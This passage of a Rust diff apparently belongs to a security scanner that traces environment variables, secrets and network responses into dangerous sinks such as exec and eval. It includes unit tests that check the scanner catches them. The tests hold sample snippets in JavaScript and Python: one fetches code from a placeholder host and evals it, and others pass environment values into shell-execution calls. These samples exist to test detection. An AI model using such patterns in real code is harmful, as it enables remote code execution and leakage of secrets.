+                labels |= lookup(state, &[0], &name);
+            } else {
+                labels |= lookup(state, &scopes[..], &name);
+            }
+        }
+        if let Some(l) = classes.identifiers.get(&name) {
+            labels |= l;
+            note(out, *l, node);
+        }
+        if classes.env_whole.contains(&name) {
+            let l = env_use(classes, node, text);
+            labels |= l;
+            note(out, l, node);
+        }
+    } else if spec.opaque_strings.contains(&kind) || spec.strings.contains(&kind) {
+        let value = crate::parse::decode_literal(&text(node));
+        let l = classes.string_labels(&value);
+        labels |= l;
+        note(out, l, node);
+    }
+
+    if let Some((_, object_field)) = spec.members.iter().find(|(k, _)| *k == kind) {
+        let t = text(node);
+        if t.len() <= 128 {
+            if let Some(l) = classes.members.get(&t) {
+                labels |= l;
+                note(out, *l, node);
+            }
+            if classes.env_whole.contains(&t) {
+                let l = env_use(classes, node, text);
+                labels |= l;
+                note(out, l, node);
+            }
+            if is_shared_member(&t) {
+                labels |= lookup(state, &[0], &t);
+            }
+        }
+        let object =
+            child_of(object_field).or_else(|| frame.children.iter().find(|c| c.node.is_named()));
+        if let Some(c) = object {
+            if chain.is_none() {
+                chain = c.chain;
+            }
+        }
+    }
+
+    if let Some((_, callee_field, args_field)) = spec.calls.iter().find(|(k, _, _)| *k == kind) {
+        let callee_node = node.child_by_field_name(callee_field);
+        let callee = match (callee_node, kind) {
+            (Some(c), "call" | "member_call_expression" | "scoped_call_expression") => {
+                match node
+                    .child_by_field_name("receiver")
+                    .or_else(|| node.child_by_field_name("object"))
+                    .or_else(|| node.child_by_field_name("scope"))
+                {
+                    Some(r) => format!("{}.{}", text(r), text(c)),
+                    None => text(c),
+                }
+            }
+            (Some(c), _) => text(c),
+            (None, _) => String::new(),
+        };
+        let callee: String = callee.split_whitespace().collect::<Vec<_>>().join(" ");
+        let callee = if callee.len() <= 200 {
+            resolve_callee(&callee, &state.aliases)
+        } else {
+            callee
+        };
+        let args_node = if args_field.is_empty() {
+            None
+        } else {
+            node.child_by_field_name(args_field)
+        };
+        let args = call_args(spec, args_node, text);
+        let mut args_labels: Labels = frame
+            .children
+            .iter()
+            .filter(|c| {
+                c.field == Some(args_field)
+                    || (args_field.is_empty() && c.field != Some(callee_field))
+                    || c.field == Some("block")
+            })
+            .map(|c| c.labels)
+            .fold(0, |a, b| a | b);
+        if args_field.is_empty() {
+            // A macro's token tree: its identifiers.
+            args_labels |= frame.acc;
+        }
+        let callee_child = child_of(callee_field)
+            .or_else(|| child_of("receiver"))
+            .or_else(|| child_of("object"));
+        let callee_labels = callee_child.map_or(0, |c| c.labels);
+        let direct = if callee.len() <= 200 {
+            classes.call_classes(spec.lang, &callee, &args)
+                | env_call(classes, spec.lang, &callee, &args, text, args_node)
+        } else {
+            0
+        };
+        note(out, direct, node);
+        // Sinks: this call, a handle's method, or a continued chain.
+        let bare = last_segment(&callee).to_owned();
+        let handle_bit = classes.handle.map_or(0, |h| 1 << h);
+        let receiver_labels = frame
+            .children
+            .iter()
+            .find(|c| matches!(c.field, Some("receiver" | "object" | "scope")))
+            .map_or(callee_labels, |c| c.labels);
+        let mut hit_here = None;
+        for (i, class) in classes.classes.iter().enumerate() {
+            if class.kind != ClassKind::Sink {
+                continue;
+            }
+            let direct_sink = direct & (1 << i) != 0;
+            let via_handle =
+                receiver_labels & handle_bit != 0 && class.handle_methods.contains(&bare);
+            if direct_sink || via_handle {
+                let labels_in = args_labels | receiver_labels;
+                out.sinks.push(SinkHit {
+                    class: i,
+                    labels: labels_in,
+                    site: site(node),
+                });
+                if via_handle {
+                    note(out, 1 << i, node);
+                }
+                hit_here.get_or_insert(out.sinks.len() - 1);
+            }
+        }
+        // Builder chains and bound sink calls.
+        let continued = callee_child.and_then(|c| c.chain).or_else(|| {
+            callee_node
+                .and_then(|c| {
+                    let t = text(c);
+                    let receiver = t.rsplit_once('.').map(|(r, _)| r.to_owned());
+                    receiver
+                })
+                .and_then(|r| {
+                    scopes
+                        .iter()
+                        .rev()
+                        .find_map(|s| state.sink_handles.get(&(*s, r.clone())).copied())
+                })
+        });
+        if let Some(h) = continued {
+            if let Some(hit) = out.sinks.get_mut(h) {
+                hit.labels |= args_labels;
+            }
+        }
+        chain = hit_here.or(continued);
+        // Local functions: parameters take the arguments' labels, the
+        // call takes what the function returns.
+        if let Some((scope, params)) = state.functions.get(&bare).cloned() {
+            for p in params {
+                state.add((scope, p), args_labels);
+            }
+        }
+        if let Some(r) = state.returns.get(&bare) {
+            labels |= r;
+        }
+        // Callbacks: their parameters take what the receiver and the call
+        // produce.
+        let feed = (callee_labels | direct) & !sink_bits(classes);
+        if feed != 0 {
+            let mut callbacks: Vec<Node<'_>> = Vec::new();
+            if let Some(args) = args_node {
+                let mut cur = args.walk();
+                callbacks.extend(
+                    args.named_children(&mut cur)
+                        .filter(|a| spec.functions.contains(&a.kind())),
+                );
+            }
+            if let Some(b) = node.child_by_field_name("block") {
+                callbacks.push(b);
+            }
+            for cb in callbacks {
+                if let Some(scope) = state.fn_scopes.get(&cb.id()).copied() {
+                    for p in fn_params(spec, cb, text) {
+                        state.add((scope, p), feed);
+                    }
+                }
+            }
+        }
+        labels |= direct & !sink_bits(classes);
+    }
+
+    if spec.shell.contains(&kind) {
+        let i = classes.index("exec");
+        if let Some(i) = i {
+            let value = text(node);
+            let l = classes.string_labels(value.trim_matches('`'));
+            labels |= l;
+            note(out, l | (1 << i), node);
+            out.sinks.push(SinkHit {
+                class: i,
+                labels: frame.acc | l,
+                site: site(node),
+            });
+        }
+    }
+
+    if let Some((_, target_field, value_field)) = spec.assigns.iter().find(|(k, _, _)| *k == kind) {
+        let target = node.child_by_field_name(target_field);
+        let value: Option<&Child<'t>> = if value_field.is_empty() {
+            frame
+                .children
+                .iter()
+                .find(|c| c.node.is_named() && c.field != Some(target_field))
+        } else {
+            child_of(value_field)
+        };
+        if let (Some(target), Some(value)) = (target, value) {
+            let scope = *scopes.last().unwrap_or(&0);
+            let t = text(target);
+            if is_shared_member(&t) || target.kind() == "instance_variable" {
+                state.add((0, t.clone()), value.labels);
+            }
+            for name in target_names(spec, target, text) {
+                let local = state.bound.contains(&(scope, name.clone()));
+                let outer = scopes
+                    .iter()
+                    .filter(|_| !local)
+                    .rev()
+                    .skip(1)
+                    .find(|s| state.bound.contains(&(**s, name.clone())))
+                    .copied();
+                match outer {
+                    Some(outer) => state.add((outer, name.clone()), value.labels),
+                    None => {
+                        state.bound.insert((scope, name.clone()));
+                    }
+                }
+                state.add((scope, name.clone()), value.labels);
+                if let Some(h) = value.chain {
+                    state.sink_handles.insert((scope, name), h);
+                }
+            }
+            labels = value.labels;
+        }
+    }
+
+    if spec.returns.contains(&kind) {
+        // The nearest function takes it, at its end.
+        if let Some(f) = fn_names.last_mut() {
+            f.1 |= labels;
+        }
+    }
+
+    if frame.scope.is_some() {
+        scopes.pop();
+        let (name, mut ret) = fn_names.pop().unwrap_or((None, 0));
+        let body = node.child_by_field_name("body");
+        if let Some(b) = body {
+            let body_labels = frame
+                .children
+                .iter()
+                .find(|c| c.node == b)
+                .map_or(0, |c| c.labels);
+            let expression_body = !matches!(
+                b.kind(),
+                "statement_block" | "block" | "compound_statement" | "body_statement"
+            );
+            if spec.implicit_return || expression_body {
+                ret |= body_labels;
+            }
+        }
+        if let Some(n) = &name {
+            if let Some(r) = state.returns.get(n) {
+                ret |= r;
+            }
+            let r = state.returns.entry(n.clone()).or_default();
+            if *r | ret != *r {
+                *r |= ret;
+                state.changed = true;
+            }
+            let parent_scope = *scopes.last().unwrap_or(&0);
+            state.add((parent_scope, n.clone()), ret);
+        }
+        labels = ret;
+    }
+
+    Child {
+        field: frame.field,
+        labels,
+        node,
+        chain,
+    }
+}
+
+fn sink_bits(classes: &FlowClasses) -> Labels {
+    classes
+        .classes
+        .iter()
+        .enumerate()
+        .filter(|(_, c)| c.kind == ClassKind::Sink)
+        .fold(0, |a, (i, _)| a | (1 << i))
+}
+
+/// Parameter names of a function node.
+fn fn_params(spec: &Spec, node: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Vec<String> {
+    let Some(p) = node
+        .child_by_field_name("parameters")
+        .or_else(|| node.child_by_field_name("parameter"))
+    else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    collect_idents(spec, p, text, &mut out, 0);
+    out
+}
+
+fn collect_idents(
+    spec: &Spec,
+    node: Node<'_>,
+    text: &dyn Fn(Node<'_>) -> String,
+    out: &mut Vec<String>,
+    depth: usize,
+) {
+    if depth > 8 || out.len() > 32 {
+        return;
+    }
+    if spec.identifiers.contains(&node.kind())
+        || node.kind() == "shorthand_property_identifier_pattern"
+    {
+        let n = text(node);
+        if !out.contains(&n) {
+            out.push(n);
+        }
+        return;
+    }
+    let mut cur = node.walk();
+    for c in node.named_children(&mut cur) {
+        collect_idents(spec, c, text, out, depth + 1);
+    }
+}
+
+/// Names an assignment target binds: its identifiers.
+fn target_names(spec: &Spec, target: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Vec<String> {
+    let mut out = Vec::new();
+    collect_idents(spec, target, text, &mut out, 0);
+    out
+}
+
+fn call_args(spec: &Spec, args: Option<Node<'_>>, text: &dyn Fn(Node<'_>) -> String) -> CallArgs {
+    let mut out = CallArgs::default();
+    let Some(args) = args else {
+        return out;
+    };
+    let mut cur = args.walk();
+    for a in args.named_children(&mut cur) {
+        if spec.skip.contains(&a.kind()) {
+            continue;
+        }
+        out.count += 1;
+        // `argument` wrappers (PHP) and keyword values: the literal inside.
+        let lit = if spec.opaque_strings.contains(&a.kind()) || spec.strings.contains(&a.kind()) {
+            Some(a)
+        } else {
+            let mut c2 = a.walk();
+            let found = a.named_children(&mut c2).find(|c| {
+                spec.opaque_strings.contains(&c.kind()) || spec.strings.contains(&c.kind())
+            });
+            found
+        };
+        if let Some(l) = lit {
+            if out.literals.len() < 8 {
+                out.literals
+                    .push(crate::parse::decode_literal(bounded(&text(l), 2048)));
+            }
+        }
+    }
+    out
+}
+
+/// The environment read through a `whole` path: one variable or all.
+fn env_use(classes: &FlowClasses, node: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Labels {
+    let Some(parent) = node.parent() else {
+        return 1 << classes.env_dump;
+    };
+    let pk = parent.kind();
+    let is_object = parent
+        .child_by_field_name("object")
+        .or_else(|| parent.child_by_field_name("value"))
+        .or_else(|| parent.child_by_field_name("receiver"))
+        .is_some_and(|o| o == node)
+        || (pk == "subscript_expression" && parent.named_child(0) == Some(node));
+    let single = match pk {
+        "subscript" | "subscript_expression" | "element_reference" => is_object,
+        "member_expression" | "attribute" | "call" | "member_access_expression" => {
+            if !is_object {
+                false
+            } else {
+                let prop = parent
+                    .child_by_field_name("property")
+                    .or_else(|| parent.child_by_field_name("attribute"))
+                    .or_else(|| parent.child_by_field_name("method"))
+                    .or_else(|| parent.child_by_field_name("name"))
+                    .map(text)
+                    .unwrap_or_default();
+                pk == "member_expression" && !matches!(prop.as_str(), "toString" | "constructor")
+                    || classes.env_single.contains(&prop)
+            }
+        }
+        // `const { A, B } = process.env`: those variables.
+        "variable_declarator" => parent
+            .child_by_field_name("name")
+            .is_some_and(|n| n.kind() == "object_pattern"),
+        _ => false,
+    };
+    if single {
+        let around = parent
+            .parent()
+            .filter(|g| g.kind().contains("call"))
+            .unwrap_or(parent);
+        let t = text(around);
+        let mut l = 1 << classes.env_var;
+        if classes.secret_names.is_match(bounded(&t, 300)) {
+            l |= 1 << classes.env_secret;
+        }
+        l
+    } else {
+        1 << classes.env_dump
+    }
+}
+
+/// Environment accessors (`os.getenv("X")`) and whole-environment calls.
+fn env_call(
+    classes: &FlowClasses,
+    lang: &str,
+    callee: &str,
+    args: &CallArgs,
+    text: &dyn Fn(Node<'_>) -> String,
+    args_node: Option<Node<'_>>,
+) -> Labels {
+    let callee = callee.trim();
+    if classes
+        .env_dumps
+        .iter()
+        .any(|p| classes.pattern_holds(p, lang, callee, args))
+    {
+        return 1 << classes.env_dump;
+    }
+    if classes
+        .env_accessors
+        .iter()
+        .any(|p| p.lang.is_none_or(|l| l == lang) && callee_matches(callee, &p.pattern))
+    {
+        let mut l = 1 << classes.env_var;
+        let t = args_node.map(text).unwrap_or_default();
+        if classes.secret_names.is_match(bounded(&t, 300)) {
+            l |= 1 << classes.env_secret;
+        }
+        return l;
+    }
+    0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The sinks of `code` as `class <- labels` lines.
+    fn sinks(lang: Language, path: &str, code: &str) -> Vec<String> {
+        let classes = crate::rules::builtin().flow();
+        let deadline = Instant::now() + std::time::Duration::from_secs(10);
+        let tree = crate::parse::parse_tree(lang, path, code.as_bytes(), deadline).expect("parses");
+        let facts = analyze(classes, lang, tree.root_node(), code.as_bytes(), deadline);
+        facts
+            .sinks
+            .iter()
+            .map(|h| {
+                format!(
+                    "{} <- {}",
+                    classes.classes[h.class].id,
+                    classes.names(h.labels).join(",")
+                )
+            })
+            .collect()
+    }
+
+    fn reaches(lang: Language, path: &str, code: &str, from: &str, to: &str) -> bool {
+        sinks(lang, path, code).iter().any(|s| {
+            s.starts_with(&format!("{to} <-"))
+                && s.split("<- ")
+                    .nth(1)
+                    .unwrap_or("")
+                    .split(',')
+                    .any(|l| l == from)
+        })
+    }
+
+    #[test]
+    fn a_body_gathered_in_one_callback_reaches_eval_in_another() {
+        let code = "require('https').get('https://p.example/s', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); });\n";
+        assert!(
+            reaches(Language::Javascript, "index.js", code, "response", "eval"),
+            "{:?}",
+            sinks(Language::Javascript, "index.js", code)
+        );
+    }
+
+    #[test]
+    fn module_aliases_resolve_callees() {
+        let code = "const cp = require('child_process');\nconst { request: r } = require('https');\ncp.exec(process.env.X);\n";
+        assert!(
+            reaches(Language::Javascript, "i.js", code, "env-var", "exec"),
+            "{:?}",
+            sinks(Language::Javascript, "i.js", code)
+        );
+        let py = "import subprocess as sp\nfrom os import system as run\nimport os\nrun(os.environ['A'])\nsp.call(os.environ['B'])\n";
+        let s = sinks(Language::Python, "a.py", py);
+        assert_eq!(
+            s.iter()
+                .filter(|l| l.starts_with("exec <-") && l.contains("env-var"))
+                .count(),
+            2,
+            "{s:?}"
+        );
+    }
+}
